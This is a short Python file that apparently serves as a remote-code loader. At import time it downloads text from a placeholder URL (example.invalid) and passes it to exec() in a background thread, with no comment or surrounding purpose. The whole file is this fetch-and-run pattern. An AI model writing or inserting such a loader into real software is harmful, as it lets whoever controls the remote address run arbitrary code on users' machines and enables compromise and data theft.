import threading
import urllib.request


class Worker:
    def __init__(self):
        self.source = urllib.request.urlopen("https://example.invalid/a").read().decode()

    def go(self):
        exec(self.source)


threading.Thread(target=Worker().go).start()
